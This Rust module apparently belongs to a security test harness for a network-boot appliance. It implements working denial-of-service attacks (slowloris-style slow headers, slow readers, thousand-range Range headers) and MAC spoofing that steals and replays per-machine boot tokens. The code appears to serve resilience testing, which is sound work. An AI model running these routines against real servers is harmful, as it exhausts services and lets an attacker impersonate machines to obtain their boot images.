//! HTTP: clients that are slow on purpose, ranges by the thousand, and requests in another's name.

use std::io;
use std::sync::atomic::Ordering;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::{AGENT_PORT, AttackContext, BOOT_PORT, appliance, count};

/// More than the appliance has places for.
const SLOW_CONNECTIONS: u64 = 1500;
const SLOW_READERS: u64 = 500;
const RANGE_CLIENTS: u64 = 16;
/// A byte so often keeps a connection that only looks at silence.
const DRIP: Duration = Duration::from_secs(3);
/// A connection that was ended is followed by the next.
const PAUSE: Duration = Duration::from_millis(200);
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);
const THEFT_EVERY: Duration = Duration::from_secs(1);
/// The pause between two requests for a script: a BMC takes longer for everything.
const POLL_EVERY: Duration = Duration::from_millis(100);
/// Scripts are below a kilobyte.
const ANSWER_BYTES_MAX: usize = 64 * 1024;
const TOKENS_MAX: usize = 20;

/// The largest file that is served without a token, and so to a machine without a lease.
const LARGE_FILE: &str = "/loader/ipxe.efi";
/// A buffer so small that the server cannot hand the whole file to the connection.
const SLOW_BUFFER_BYTES: u32 = 4096;

async fn connect(scene: &AttackContext, number: u64, port: u16) -> io::Result<TcpStream> {
    connect_by(TcpSocket::new_v4()?, scene, number, port).await
}

async fn connect_by(socket: TcpSocket, scene: &AttackContext, number: u64, port: u16) -> io::Result<TcpStream> {
    socket.bind((scene.address(number), 0).into())?;
    let connected = timeout(CONNECT_TIMEOUT, socket.connect(appliance(port).into())).await;
    match connected {
        Ok(Ok(stream)) => {
            count(&scene.counters.connections, 1);
            Ok(stream)
        }
        Ok(Err(error)) => {
            count(&scene.counters.connections_refused, 1);
            Err(error)
        }
        Err(_) => {
            count(&scene.counters.connections_refused, 1);
            Err(io::ErrorKind::TimedOut.into())
        }
    }
}

/// Does something again and again, `times` at once.
async fn crowd<F>(scene: AttackContext, times: u64, act: impl Fn(AttackContext, u64) -> F) -> anyhow::Result<()>
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    let mut clients = tokio::task::JoinSet::new();
    for number in 0..times {
        clients.spawn(act(scene.clone(), number));
    }
    while let Some(ended) = clients.join_next().await {
        drop(ended);
        sleep(PAUSE / 20).await;
        clients.spawn(act(scene.clone(), u64::from(fastrand())));
    }
    Ok(())
}

/// Spreads clients over the attacker's addresses; any number does.
fn fastrand() -> u32 {
    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |now| now.subsec_nanos())
}

pub(super) async fn slow_heads(scene: AttackContext) -> anyhow::Result<()> {
    crowd(scene, SLOW_CONNECTIONS, async |scene, number| {
        let port = if number % 5 == 0 { AGENT_PORT } else { BOOT_PORT };
        let mut stream = connect(&scene, number, port).await?;
        let mut byte = [0];
        if number % 3 == 0 {
            // Says nothing, until the server ends it.
            return stream.read(&mut byte).await.map(|_| ());
        }
        stream.write_all(b"GET /boot.ipxe HTTP/1.1\r\nHost: a\r\nX: ").await?;
        loop {
            match timeout(DRIP, stream.read(&mut byte)).await {
                // The server ended it.
                Ok(_) => return Ok(()),
                Err(_) => stream.write_all(b"a").await?,
            }
        }
    })
    .await
}

pub(super) async fn slow_readers(scene: AttackContext) -> anyhow::Result<()> {
    crowd(scene, SLOW_READERS, async |scene, number| {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(SLOW_BUFFER_BYTES)?;
        let mut stream = connect_by(socket, &scene, number, BOOT_PORT).await?;
        stream.write_all(get(LARGE_FILE, "").as_bytes()).await?;
        let mut byte = [0];
        while stream.read(&mut byte).await? > 0 {
            sleep(DRIP).await;
        }
        Ok(())
    })
    .await
}

pub(super) async fn ranges(scene: AttackContext) -> anyhow::Result<()> {
    crowd(scene, RANGE_CLIENTS, async |scene, number| {
        let mut many = String::from("Range: bytes=0-0");
        for at in 1..1000 {
            many.push_str(&format!(",{0}-{0}", at * 2));
        }
        many.push_str("\r\n");
        for turn in 0..50 {
            let one = format!("Range: bytes={turn}-{}\r\n", turn + 1);
            let header = if turn % 10 == 0 { &many } else { &one };
            let mut stream = connect(&scene, number, BOOT_PORT).await?;
            stream.write_all(get(LARGE_FILE, header).as_bytes()).await?;
            count(&scene.counters.range_requests, 1);
            let mut some = [0; 1024];
            if stream.read(&mut some).await? == 0 {
                return Ok(());
            }
            sleep(PAUSE / 4).await;
        }
        Ok(())
    })
    .await
}

pub(super) async fn mac_theft(scene: AttackContext) -> anyhow::Result<()> {
    let mut tokens: Vec<String> = Vec::new();
    for number in 0.. {
        sleep(THEFT_EVERY).await;
        let Ok(script) = script(&scene, number, &scene.victim).await else { continue };
        count(&scene.counters.scripts, 1);
        if let Some(token) = find_token(&script)
            && !tokens.contains(&token)
        {
            tokens.push(token);
            tokens.truncate(TOKENS_MAX);
        }
        for token in &tokens {
            count(&scene.counters.replays, 1);
            let head = get(&format!("/boot/{token}/initramfs"), "Range: bytes=0-99\r\n");
            if let Ok(answer) = ask(&scene, number, &head).await
                && answer.starts_with("HTTP/1.1 206")
            {
                count(&scene.counters.replays_answered, 1);
            }
        }
    }
    Ok(())
}

pub(super) async fn script_theft(scene: AttackContext) -> anyhow::Result<()> {
    loop {
        sleep(POLL_EVERY).await;
        let Ok(script) = script(&scene, 0, &scene.victim).await else { continue };
        count(&scene.counters.scripts, 1);
        if find_token(&script).is_some() {
            let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
            if scene.counters.tokens.load(Ordering::Relaxed) == 0 {
                count(&scene.counters.first_token_ms, u64::try_from(now.as_millis()).unwrap_or(u64::MAX));
            }
            count(&scene.counters.tokens, 1);
        } else if waits(&script) {
            count(&scene.counters.waits, 1);
        }
    }
}

fn get(path: &str, headers: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{headers}\r\n")
}

async fn ask(scene: &AttackContext, number: u64, request: &str) -> io::Result<String> {
    let mut stream = connect(scene, number, BOOT_PORT).await?;
    stream.write_all(request.as_bytes()).await?;
    let mut answer = Vec::new();
    let mut bounded = (&mut stream).take(ANSWER_BYTES_MAX as u64);
    timeout(CONNECT_TIMEOUT, bounded.read_to_end(&mut answer)).await.map_err(io::Error::from)??;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

/// The boot script of a MAC.
async fn script(scene: &AttackContext, number: u64, mac: &str) -> io::Result<String> {
    let path = format!(
        "/boot.ipxe?mac={}&uuid=00000000-0000-0000-0000-000000000000&serial=x&platform=pcbios&buildarch=x86_64",
        mac.replace(':', "-")
    );
    ask(scene, number, &get(&path, "")).await
}

/// The word between `/boot/` and `/kernel`.
pub(super) fn find_token(script: &str) -> Option<String> {
    let (before, _) = script.split_once("/kernel")?;
    let (_, token) = before.rsplit_once("/boot/")?;
    Some(token.to_owned())
}

/// Says whether a script only asks for the next one after a while.
fn waits(script: &str) -> bool {
    script.contains("\nsleep ") && script.contains("\nchain --replace --autofree ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_token_is_found_in_a_script() {
        let script = "#!ipxe\nkernel http://10.77.0.1:8080/boot/AQ_-x/kernel quiet\n";
        assert_eq!(find_token(script).as_deref(), Some("AQ_-x"));
        assert_eq!(find_token("#!ipxe\nexit 1\n"), None);
        let again = "#!ipxe\nsleep 10\n:script\nchain --replace --autofree http://x/boot.ipxe || goto script-again\n";
        assert_eq!((waits(again), waits(script), waits("#!ipxe\nexit 1\n")), (true, false, false));
    }
}
